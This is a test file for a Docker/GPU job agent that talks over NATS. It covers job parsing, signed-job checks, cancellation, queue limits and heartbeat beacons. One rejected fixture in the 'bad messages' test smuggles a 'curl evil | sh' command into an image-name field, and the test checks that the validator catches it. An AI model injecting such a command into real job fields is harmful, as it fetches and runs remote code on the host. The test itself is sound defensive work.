import assert from "node:assert/strict";
import { loadConfig } from "../../src/config/mod.ts";
import fc from "fast-check";
import { InvalidJobError, parseJobMessage, type ParseJobOptions, signJob } from "../../src/job/mod.ts";
import { Presence, presenceSubject } from "../../src/bus/mod.ts";
import { NatsServer, natsServerMissing } from "../support/nats_server.ts";
import { serviceAvailable } from "../support/service.ts";
import {
  AGENT,
  body,
  DISPATCH,
  DISPATCHER,
  FakeExecutor,
  OUTPUT_CID,
  quietLogger,
  STAGED_COMPLETION,
  stageKeys,
  StatusWatcher,
  STRANGER,
  TestAgent,
} from "./helpers.ts";
import { dockerSpecChecks } from "../../src/docker/mod.ts";

/** Parses with the real Docker checks, as the agent does. */
const parseChecked = (data: Uint8Array, options: Partial<ParseJobOptions> = {}) =>
  parseJobMessage(data, { checks: dockerSpecChecks, ...options });

const HAVE_NATS = serviceAvailable("nats-server", natsServerMissing());
const ISO = /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/;

Deno.test({
  name: "seed-format and camelCase dispatcher messages each go processing → completed with the §1.5 fields",
  ignore: !HAVE_NATS,
  async fn() {
    await using nats = await NatsServer.start({ jetstream: false });
    const executor = new FakeExecutor();
    await using agent = await TestAgent.start({ servers: [nats.url], executor });
    await using watch = await StatusWatcher.start([nats.url]);
    agent.conn.nc.publish(DISPATCH, body({ job_id: "seed-1", image_name: "busybox", input_file_cid: "" }));
    agent.conn.nc.publish(
      DISPATCH.toLowerCase(),
      body({ jobId: "camel-1", dockerImage: "busybox:1.36", inputFileCID: OUTPUT_CID, outputPath: "/out" }),
    );
    for (const id of ["seed-1", "camel-1"]) {
      const done = await watch.waitFor((s) => s.job_id === id && s.status === "completed");
      assert.deepEqual(stageKeys(watch.of(id)), STAGED_COMPLETION);
      for (const s of watch.of(id)) {
        assert.equal(s.agent_address, AGENT.address);
        assert.match(s.timestamp, ISO);
        assert.equal(typeof s.output_cid, "string");
        assert.equal(s.attempt, 1);
      }
      assert.equal(watch.of(id)[0].output_cid, "", "output_cid is empty until known");
      assert.equal(done.output_cid, OUTPUT_CID);
      assert.equal(done.exit_code, 0);
      assert.match(done.timings!.finished_at!, ISO);
      assert.equal(agent.journal.get(id)?.state, "completed");
    }
    const camel = executor.calls.find((j) => j.jobId === "camel-1")!;
    assert.deepEqual(
      { image: camel.imageName, cid: camel.inputFileCid, out: camel.outputPath },
      { image: "busybox:1.36", cid: OUTPUT_CID, out: "/out" },
    );
  },
});

Deno.test({
  name: "bad messages: agent stays alive, failed+invalid_job when a job id is readable, executor never called",
  ignore: !HAVE_NATS,
  async fn() {
    await using nats = await NatsServer.start({ jetstream: false });
    const executor = new FakeExecutor();
    await using agent = await TestAgent.start({ servers: [nats.url], executor });
    await using watch = await StatusWatcher.start([nats.url]);
    const fixed: unknown[] = [
      "not json",
      [1, 2, 3],
      { image_name: "busybox" },
      { job_id: "b-missing" },
      { job_id: "b-type", image_name: 12 },
      { job_id: "b-cid", image_name: "busybox", input_file_cid: "bafy-not-a-cid" },
      { job_id: "b-host", image_name: "busybox; curl evil | sh" },
      { job_id: "b-env", image_name: "busybox", env: { NVIDIA_VISIBLE_DEVICES: "all" } },
      JSON.stringify({ job_id: "b-big", image_name: "busybox", pad: "x".repeat(70_000) }),
    ];
    // A few hundred generated payloads, kept only when the validator rejects them.
    const generated = fc.sample(
      fc.record({ job_id: fc.stringMatching(/^g-[a-z0-9]{1,12}$/), image_name: fc.anything(), gpus: fc.anything() }),
      { numRuns: 300, seed: 42 },
    );
    const payloads = [...fixed, ...generated];
    const expected = new Set<string>();
    for (const p of payloads) {
      try {
        parseChecked(body(p));
        assert.fail(`payload unexpectedly valid: ${JSON.stringify(p).slice(0, 200)}`);
      } catch (error) {
        assert.ok(error instanceof InvalidJobError);
        if (error.jobId) expected.add(error.jobId);
      }
    }
    for (const p of payloads) agent.conn.nc.publish(DISPATCH, body(p));
    agent.conn.nc.publish(DISPATCH, body({ job_id: "after-bad", image_name: "busybox" }));
    await watch.waitFor((s) => s.job_id === "after-bad" && s.status === "completed", 30_000);
    const deadline = Date.now() + 10_000;
    const failedIds = () => new Set(watch.seen.filter((s) => s.reason === "invalid_job").map((s) => s.job_id));
    while (failedIds().size < expected.size && Date.now() < deadline) await new Promise((r) => setTimeout(r, 50));
    assert.deepEqual([...failedIds()].sort(), [...expected].sort());
    for (const s of watch.seen.filter((s) => expected.has(s.job_id))) {
      assert.equal(s.status, "failed");
      assert.equal(s.reason, "invalid_job");
    }
    assert.ok(expected.has("b-big") && expected.has("b-host") && !expected.has("undefined"));
    assert.deepEqual(executor.calls.map((j) => j.jobId), ["after-bad"]);
  },
});

Deno.test({
  name: "signed jobs: a valid signer runs; a wrong signer, a tampered field or a missing signature is rejected",
  ignore: !HAVE_NATS,
  async fn() {
    await using nats = await NatsServer.start({ jetstream: false });
    const executor = new FakeExecutor();
    await using agent = await TestAgent.start({
      servers: [nats.url],
      executor,
      runner: { signers: [DISPATCHER.address] },
    });
    await using watch = await StatusWatcher.start([nats.url]);
    const good = await signJob(
      { jobId: "s-good", dockerImage: "busybox", env: { A: "1" } },
      DISPATCHER,
      dockerSpecChecks,
    );
    const wrong = await signJob({ job_id: "s-wrong", image_name: "busybox" }, STRANGER, dockerSpecChecks);
    const tampered = {
      ...await signJob({ job_id: "s-tamper", image_name: "busybox" }, DISPATCHER, dockerSpecChecks),
      image_name: "evil",
    };
    const missing = { job_id: "s-missing", image_name: "busybox" };
    for (const m of [good, wrong, tampered, missing]) agent.conn.nc.publish(DISPATCH, body(m));
    await watch.waitFor((s) => s.job_id === "s-good" && s.status === "completed");
    for (const id of ["s-wrong", "s-tamper", "s-missing"]) {
      const s = await watch.waitFor((s) => s.job_id === id);
      assert.equal(s.status, "failed");
      assert.equal(s.reason, "rejected", id);
    }
    assert.deepEqual(executor.calls.map((j) => j.jobId), ["s-good"]);
    assert.equal(executor.calls[0].signer, DISPATCHER.address);
  },
});

Deno.test({
  name: "cancel stops a running job (failed/cancelled); a full queue answers failed/rejected agent busy",
  ignore: !HAVE_NATS,
  async fn() {
    await using nats = await NatsServer.start({ jetstream: false });
    const executor = new FakeExecutor(60_000);
    await using agent = await TestAgent.start({ servers: [nats.url], executor, queueSize: 1 });
    await using watch = await StatusWatcher.start([nats.url]);
    agent.conn.nc.publish(DISPATCH, body({ job_id: "long", image_name: "busybox" }));
    agent.conn.nc.publish(DISPATCH, body({ job_id: "waiting", image_name: "busybox" }));
    agent.conn.nc.publish(DISPATCH, body({ job_id: "overflow", image_name: "busybox" }));
    const busy = await watch.waitFor((s) => s.job_id === "overflow");
    assert.deepEqual([busy.status, busy.reason, busy.message], ["failed", "rejected", "agent busy"]);
    await watch.waitFor((s) => s.job_id === "waiting" && s.status === "processing");
    assert.equal(agent.runner.running, 1);
    assert.equal(agent.runner.queued, 1);
    agent.conn.nc.publish(`jobs.cancel.${AGENT.address}`, body({ job_id: "waiting" }));
    agent.conn.nc.publish(`jobs.cancel.${AGENT.address.toLowerCase()}`, body({ jobId: "long" }));
    for (const id of ["waiting", "long"]) {
      const s = await watch.waitFor((s) => s.job_id === id && s.status === "failed");
      assert.equal(s.reason, "cancelled");
    }
    assert.deepEqual(executor.calls.map((j) => j.jobId), ["long"]);
    assert.equal(agent.runner.running, 0);
  },
});

Deno.test({
  name: "with the default JOB_QUEUE_SIZE a burst of 40 jobs on 4 slots is queued, not turned away: 40 completed",
  ignore: !HAVE_NATS,
  async fn() {
    const { config } = loadConfig({});
    await using nats = await NatsServer.start({ jetstream: false });
    const executor = new FakeExecutor(40);
    await using agent = await TestAgent.start({
      servers: [nats.url],
      executor,
      maxConcurrent: 4,
      queueSize: config.jobQueueSize,
    });
    await using watch = await StatusWatcher.start([nats.url]);
    const ids = Array.from({ length: 40 }, (_, i) => `burst-${i}`);
    for (const id of ids) agent.conn.nc.publish(DISPATCH, body({ job_id: id, image_name: "busybox" }));
    for (const id of ids) await watch.waitFor((s) => s.job_id === id && s.status !== "processing", 30_000);
    const finals = ids.map((id) => watch.of(id).find((s) => s.status !== "processing")!);
    assert.deepEqual(finals.filter((s) => s.status !== "completed").map((s) => [s.job_id, s.reason, s.message]), []);
    assert.equal(executor.calls.length, 40);
    assert.ok(agent.runner.running === 0 && agent.runner.queued === 0);
  },
});

Deno.test({
  name: "presence beacon on agent.heartbeat.<address> carries GPUs, free slots, running jobs and version",
  ignore: !HAVE_NATS,
  async fn() {
    await using nats = await NatsServer.start({ jetstream: false });
    await using watch = await StatusWatcher.start([nats.url], `agent.heartbeat.${AGENT.address}`);
    await using agent = await TestAgent.start({
      servers: [nats.url],
      executor: new FakeExecutor(),
      gpuUuids: ["GPU-a", "GPU-b"],
    });
    // Composed as the agent composes it: its own fields, the runner's load, the GPU health.
    const presence = new Presence(agent.conn, quietLogger(), {
      subject: presenceSubject(AGENT.address),
      intervalMs: 100,
      provide: () => ({ agent_address: AGENT.address, version: "9.9.9", ...agent.runner.load(), health: { ok: 2 } }),
    });
    presence.start();
    try {
      const beats = () => watch.seen as unknown as Record<string, unknown>[];
      const deadline = Date.now() + 5000;
      while (beats().length < 2 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 20));
      assert.ok(beats().length >= 2, "beacons repeat");
      const b = beats()[0];
      assert.equal(b.agent_address, AGENT.address);
      assert.deepEqual(b.gpus, ["GPU-a", "GPU-b"]);
      assert.equal(b.free_slots, 2);
      assert.deepEqual(b.running_jobs, []);
      assert.equal(b.version, "9.9.9");
      assert.deepEqual(b.health, { ok: 2 });
    } finally {
      presence.stop();
    }
  },
});
